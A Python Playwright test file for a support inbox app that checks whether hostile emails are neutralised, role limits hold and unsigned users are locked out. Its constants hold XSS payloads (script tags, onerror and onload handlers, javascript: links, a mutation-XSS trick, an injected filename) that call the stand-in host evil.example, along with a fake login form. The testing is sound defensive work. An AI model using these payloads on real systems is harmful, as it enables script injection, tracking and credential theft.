"""What strangers send runs nothing and fetches nothing; what a role may not do, it can't; who reads the record is on record."""

from __future__ import annotations

import re
from email.header import Header
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from hub.demo.doorman import User
from tests.journeys.post import SUPPORT, Post, letter, until
from tests.journeys.seat import Room, Seat

People = dict[str, User]
pytestmark = pytest.mark.timeout(120)

TELL = "window.top.postMessage('ran','*');document.title='ran';fetch('https://evil.example/ran')"
SCRIPT = f"<script>{TELL}</script>"
IMAGE = "<img src=x onerror=\"fetch('https://evil.example/error')\">"
PAGE = f"""<html><head>{SCRIPT}<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/meta">
<link rel="stylesheet" href="https://evil.example/style.css"><style>body{{background:url(https://evil.example/css)}} @import "https://evil.example/import.css";</style></head>
<body onload="{TELL}">Hello from Mallory.{IMAGE}<svg onload="{TELL}"><script>{TELL}</script></svg>
<img src="https://evil.example/pixel.png" width="1" height="1"><img srcset="https://evil.example/set.png 2x">
<div style="background-image:url(https://evil.example/style)">styled</div><video poster="https://evil.example/poster" src="https://evil.example/film"></video>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<form action="https://evil.example/form"><input name="a"><button>Log in again</button></form>
<a href="javascript:{TELL}">a link</a> <a href="https://evil.example/link" ping="https://evil.example/ping">another</a>
<math><mtext></form><form><mglyph><style></math>{IMAGE}</body></html>"""
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{TELL}"><script>{TELL}</script><image href="https://evil.example/svg"/></svg>'
WATCH = "window.ran = []; window.addEventListener('message', (event) => window.ran.push(event.data)); window.alert = () => window.ran.push('alert')"
NAME = f"M {SCRIPT}{IMAGE}"
SUBJECT = f"Hello {SCRIPT}{IMAGE}"
FILENAME = 'a"><img src=x onerror=alert(1)>.svg'


def test_a_strangers_letter_runs_nothing_and_fetches_nothing(room: Room, post: Post, people: People) -> None:
    mallory, subject = people["mallory"], SUBJECT
    picture = ("photo.png", "image/png", SVG.encode())
    drawing = (FILENAME, "image/svg+xml", SVG.encode())
    written = letter(mallory, subject, f"Hello. {SCRIPT}", html=PAGE, files=[drawing, picture]).as_bytes()
    named = re.sub(
        rb"From: [^<]*<",
        f"From: {Header(NAME, 'utf-8', maxlinelen=1000).encode()} <".encode(),
        written,
        count=1,
    )
    post.hand_in(mallory, SUPPORT.address, named)
    with room.seat("mia") as mia:
        mia.page.add_init_script(WATCH)
        mia.page.reload()
        mia.open(subject)
        expect(mia.cards.first).to_contain_text(SCRIPT)
        expect(mia.row(subject)).to_contain_text(NAME)
        mia.page.get_by_role("button", name="Details").first.click()
        see_the_original(mia)
        read_everywhere(mia)
        files_are_downloads(mia)
        images_when_asked(mia)
        assert mia.page.evaluate("window.ran") == []
        assert mia.page.title() != "ran"


def see_the_original(seat: Seat) -> None:
    seat.page.get_by_role("button", name="Original formatting").click()
    frame = seat.page.frame_locator("iframe.letter")
    expect(frame.locator("body")).to_contain_text("Hello from Mallory.")
    assert (
        frame.locator(
            "script, iframe, object, embed, form, meta[http-equiv=refresh], [onload], [onerror]"
        ).count()
        == 0
    )
    seat.picture("safety-original")
    assert strangers(seat) == []


def read_everywhere(seat: Seat) -> None:
    """The same words on every other page."""
    conversation = seat.page.url
    customer = seat.customer
    for path in (f"/customers/{customer}", "/search?q=Mallory", "/parked", "/inbox/complaints"):
        seat.go(path)
        expect(seat.page.get_by_role("heading", level=1).first).to_be_attached()
        assert seat.page.evaluate("window.ran") == []
    with_history(seat, customer)
    seat.page.goto(conversation)
    assert strangers(seat) == []


def with_history(seat: Seat, customer: str) -> None:
    """A rep has no history: neither the page nor the API."""
    seat.go(f"/customers/{customer}/history")
    expect(seat.page.get_by_text("The history could not be loaded.")).to_be_visible()
    answer = seat.page.request.get(f"{seat.hub.address}/api/v1/customers/{customer}/history")
    assert answer.status == 403
    assert "facts" not in answer.json()


def files_are_downloads(seat: Seat) -> None:
    """Whatever a file says of itself: nothing of it is shown as a page of ours."""
    entries = [entry for entry in seat.thread_now()["entries"] if entry["kind"] == "message"]
    assert [file["filename"] for file in entries[0]["files"]] == [FILENAME, "photo.png"]
    for file in entries[0]["files"]:
        for query in ("", "?inline=1"):
            answer = seat.page.request.get(f"{seat.hub.address}{file['url']}{query}")
            assert answer.ok
            assert answer.headers["content-disposition"].startswith("attachment"), (file["filename"], query)
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "svg" not in answer.headers["content-type"]
            assert "html" not in answer.headers["content-type"]


def images_when_asked(seat: Seat) -> None:
    """Only a press of the button asks for them, and then nothing but pictures."""
    fetched: list[str] = []
    seat.page.context.route(
        "https://evil.example/**", lambda route: (fetched.append(route.request.url), route.abort())
    )
    seat.page.get_by_role("button", name="Original formatting").click()
    seat.page.get_by_role("button", name="remote image").click()
    expect(seat.page.get_by_text("Remote images are shown.")).to_be_visible()
    expect(seat.page.frame_locator("iframe.letter").locator("body")).to_contain_text("Hello from Mallory.")
    until(lambda: seat.page.wait_for_timeout(50) or fetched, "the picture was not asked for")
    assert {urlsplit(url).path for url in fetched} <= {"/pixel.png", "/set.png", "/style", "/css", "/poster"}
    assert "/pixel.png" in {urlsplit(url).path for url in fetched}


def strangers(seat: Seat) -> list[str]:
    """Requests that left for elsewhere."""
    ours = ("blob:", "data:", "about:", seat.hub.address, seat.hub.address.replace("http", "ws", 1))
    return [url for url in seat.asked if not url.startswith(ours)]


def test_negative_control_the_same_letter_as_a_page_of_its_own_runs_and_fetches(room: Room) -> None:
    context = room.browser.new_context()
    fetched: list[str] = []
    context.route("https://evil.example/**", lambda route: (fetched.append(route.request.url), route.abort()))
    page = context.new_page()
    page.set_content(PAGE.replace('http-equiv="refresh"', ""), wait_until="commit")
    until(lambda: page.wait_for_timeout(50) or {"ran", "error"} <= _ends(fetched), "nothing ran")
    assert page.title() == "ran"
    context.close()


def _ends(urls: list[str]) -> set[str]:
    return {url.rpartition("/")[2] for url in urls}


def test_an_auditor_reads_and_changes_nothing(room: Room, post: Post, people: People) -> None:
    alice = people["alice"]
    post.write(alice, letter(alice, "Alice asks", "Which bulb fits?"))
    with room.seat("ada") as ada:
        ada.open("Alice asks")
        conversation, customer, before = ada.conversation, ada.customer, ada.thread_now()
        for name in (
            "Resolve",
            "Reply",
            "Spam",
            "Snooze",
            "Tag",
            "Mark as complaint",
            "New conversation",
            "Note",
        ):
            expect(ada.page.get_by_role("button", name=name)).to_have_count(0)
        for key in ("r", "e", "c", "i", "!", "n", "w", "t", "h", "a", "f"):
            ada.press(key)
        expect(ada.page.get_by_role("dialog")).to_have_count(0)
        expect(ada.letter).to_have_count(0)
        ada.picture("safety-auditor")
        refused_by_the_api(ada, conversation)
        assert ada.thread_now()["entries"] == before["entries"]
        ada.press("g", "h")
        expect(ada.page.get_by_role("heading", level=1)).to_have_text("History of Alice Moreno")
        expect(ada.page.get_by_text("That you read this is itself on record.")).to_be_visible()
        facts = ada.api(f"/customers/{customer}/history?limit=1000")["facts"]
        viewed = [one["actor"]["name"] for one in facts if one["name"] == "record.viewed.v1"]
        assert viewed == ["Ada Auditor"]


def refused_by_the_api(seat: Seat, conversation: str) -> None:
    csrf = {"X-CSRF": seat.api("/session")["csrf"]}
    for path in ("resolve", "spam", "notes", "replies", "assign", "complaint"):
        answer = seat.page.request.post(
            f"{seat.hub.address}/api/v1/conversations/{conversation}/{path}", headers=csrf, data={}
        )
        assert answer.status == 403, path


def test_nobody_sees_anything_without_signing_in(room: Room) -> None:
    context = room.browser.new_context(base_url=room.hub.address)
    page = context.new_page()
    for path in ("/inbox/open", "/customers/00000000-0000-4000-8000-000000000000/history", "/parked"):
        page.goto(path)
        expect(page.get_by_label("Password")).to_be_visible()
    for path in ("/inbox/open", "/customers", "/parked", "/search?q=lamp", "/agents"):
        assert context.request.get(f"/api/v1{path}").status == 401, path
    context.close()
